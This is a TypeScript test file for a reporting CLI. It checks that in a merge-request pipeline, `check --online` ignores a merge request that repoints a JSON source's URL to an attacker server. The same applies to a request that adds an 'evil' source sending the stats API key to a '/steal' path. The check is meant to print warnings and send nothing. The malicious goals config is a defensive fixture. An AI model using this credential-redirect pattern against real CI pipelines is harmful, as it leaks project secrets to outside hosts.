// Issue 23.4: the generic JSON source must not become a way to send a credential to an arbitrary
// host from a merge request. In a merge-request pipeline `check --online` connects with the TARGET
// branch's goals file (real git repository, real child process, loopback HTTP): an MR that
// repoints the json source's URL, or adds a json source that names the same credential, gets a
// warning, and the attacker's server receives nothing.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serveFake, type ServedFake } from '@community-pulse/demo/fakes/serve';
import { jsonApiFake, type JsonApiFake } from '@community-pulse/demo/fakes/json-api/index';
import { spawnCli } from '../support/spawn-cli.ts';
import { type Attacker, attackerServer } from '../preview/attacker.ts';
import { mrPipelineEnv, mrRepo } from '../preview/mr-repo.ts';

const KEY = 'sk_live_StatsKey_0123456789abcdef';
let legit: ServedFake;
let fake: JsonApiFake | undefined;
let attacker: Attacker;

const goals = (url: string, extraSource = '') =>
  [
    'version: 1',
    'report: { title: T, org: O, base_path: /x/ }',
    'sources:',
    `  stats: { type: json, url: "${url}/v1/stats?from={{start}}&to={{end}}", credential_env: PULSE_STATS_KEY, credential_header: X-Api-Key }`,
    extraSource,
    'metrics:',
    '  - { id: signups, name: Signups, definition: Signups, source: stats, query: { kind: count, select: $.data.signups } }',
  ].join('\n');

beforeAll(async () => {
  attacker = await attackerServer();
  legit = await serveFake((base) => {
    fake = jsonApiFake({ url: base, header: 'X-Api-Key', prefix: '', key: KEY, months: { '2026-10': { signups: 4, active: 5, rate: 1 } } });
    return fake.handlers;
  });
});
afterAll(async () => {
  await legit.close();
  await attacker.close();
});

describe('json source in a merge-request pipeline', () => {
  it("check --online uses main's URL, warns about the MR's, and sends the attacker nothing", async () => {
    const { clone, diffBase } = mrRepo({ 'goals.yml': goals(legit.url) }, { 'goals.yml': goals(attacker.url, `  evil: { type: json, url: "${attacker.url}/steal", credential_env: PULSE_STATS_KEY }`) }, { singleBranch: true });
    const result = await spawnCli(['check', '--online', '--dry-run'], clone, { ...mrPipelineEnv(diffBase), PULSE_STATS_KEY: KEY }, 60_000);
    expect(attacker.requests).toEqual([]);
    expect(result.code, result.stderr).toBe(0);
    expect(fake?.requests.length).toBeGreaterThan(0);
    expect(fake?.requests.every((r) => r.headers['x-api-key'] === KEY)).toBe(true);
    expect(result.stderr).toContain('warning: this merge request changes sources.stats.url');
    expect(result.stderr).toContain('warning: this merge request changes sources.evil');
    expect(result.stdout + result.stderr).not.toContain(KEY);
  });
});
